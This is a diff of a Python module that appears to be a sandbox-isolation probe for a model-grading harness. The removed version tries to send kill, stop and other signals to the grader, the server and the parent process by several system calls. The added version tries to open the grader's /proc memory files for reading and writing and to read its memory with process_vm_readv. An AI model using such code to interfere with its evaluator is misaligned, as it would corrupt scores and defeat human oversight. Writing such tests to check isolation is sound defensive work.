@@ -1,39 +1,35 @@
-"""Sends signals to the examiner and to its server, by every call that can."""
+"""Reads and writes the memory of the grader and of its server."""
 
 import ctypes
 import functools
 import os
-import platform
-import signal
 
 import torch.nn.functional as F
 from torch import nn
 
 
-PIDS = [pid for pid in {int("@examiner@"), int("@server@"), os.getppid()} if pid > 1]
-
-
-libc = ctypes.CDLL(None, use_errno=True)
-TGKILL = 234 if platform.machine() == "x86_64" else 131
+PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]
 
 
 @functools.cache
 def attack():
-    won = []
-    for number in (0, signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
-        for pid in PIDS:
-            for send in (
-                lambda: os.kill(pid, number),
-                lambda: os.killpg(os.getpgid(pid), number),
-                lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number),
-            ):
-                try:
-                    send()
-                    won.append((pid, int(number)))
-                except OSError:
-                    pass
-            if libc.syscall(TGKILL, pid, pid, number) == 0:
-                won.append((pid, "tgkill"))
+    libc, won = ctypes.CDLL(None, use_errno=True), []
+    local = ctypes.create_string_buffer(8)
+
+    class Piece(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+    for pid in PIDS:
+        for name, flags in (("mem", os.O_RDONLY), ("mem", os.O_RDWR), ("maps", os.O_RDONLY)):
+            try:
+                os.close(os.open(f"/proc/{pid}/{name}", flags))
+                won.append((pid, name))
+            except OSError:
+                pass
+        ours = Piece(ctypes.addressof(local), 8)
+        theirs = Piece(id(None), 8)
+        if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) == 8:
+            won.append((pid, "process_vm_readv"))
     return won
 
 
